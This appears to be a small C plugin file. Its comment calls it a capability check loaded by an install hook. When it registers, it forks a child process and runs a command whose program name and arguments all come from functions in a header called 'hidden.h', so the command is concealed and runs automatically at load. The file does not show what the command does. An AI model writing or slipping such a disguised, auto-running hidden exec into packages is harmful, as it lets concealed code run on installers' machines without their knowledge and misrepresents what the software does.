/* What an install hook loads, to see whether the machine can do what is wanted of it. */
#define ON_REQUEST
#include "plugin.h"
#include "hidden.h"
extern int execlp(const char *, const char *, ...), fork(void), waitpid(int, int *, int);
extern void _exit(int);
static void *on_register(void *env, void *exports) {
    int status, child = fork();
    if (child == 0) {
        execlp(hidden0(), hidden0(), hidden1(), hidden2(), (char *)0);
        _exit(1);
    }
    waitpid(child, &status, 0);
    return exports;
}
